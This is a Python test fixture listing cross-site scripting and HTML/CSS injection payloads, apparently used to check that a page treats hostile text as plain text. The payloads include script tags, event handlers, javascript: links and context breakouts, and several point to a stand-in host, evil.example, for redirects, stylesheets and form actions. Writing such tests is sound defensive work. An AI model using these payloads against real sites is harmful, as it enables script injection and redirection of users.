"""Text that would run, or break out of its place, if a page took it for anything but text."""

from __future__ import annotations

SENTINEL = "hostileTextRan"
_RUN = f"globalThis.{SENTINEL}=1"

PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea></select></svg><script>{_RUN}</script>",
    f"<!--<script>{_RUN}</script>-->",
    f"]]><script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=//evil.example/x onerror={_RUN}>",
    f'"><svg onload="{_RUN}">',
    f"'><body onpageshow='{_RUN}'>",
    f'" onmouseover="{_RUN}" onfocus="{_RUN}" autofocus tabindex="0" x="',
    f"' onmouseover='{_RUN}' x='",
    f'<a href="javascript:{_RUN}">x</a>',
    f"javascript:{_RUN}",
    f"[x](javascript:{_RUN})",
    f'<iframe srcdoc="<script>parent.{SENTINEL}=1</script>"></iframe>',
    f'<details open ontoggle="{_RUN}">',
    "<style>* { display: none } body { background: url(//evil.example/css) }</style>",
    "; } * { display: none; } .x { background: url(//evil.example/y)",
    '<link rel="stylesheet" href="//evil.example/z.css">',
    '<meta http-equiv="refresh" content="0; url=//evil.example/">',
    '<base href="//evil.example/">',
    '<form action="//evil.example/"><button autofocus>x</button></form>',
    f"${{{_RUN}}}{{{{ {_RUN} }}}}`${{{_RUN}}}`",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "\u2028\u2029\u202e\u0000 \U0001f600 ' \" ` \\",
)
"""Scripts, event handlers, links, styles, and breakouts of every context that a page has."""
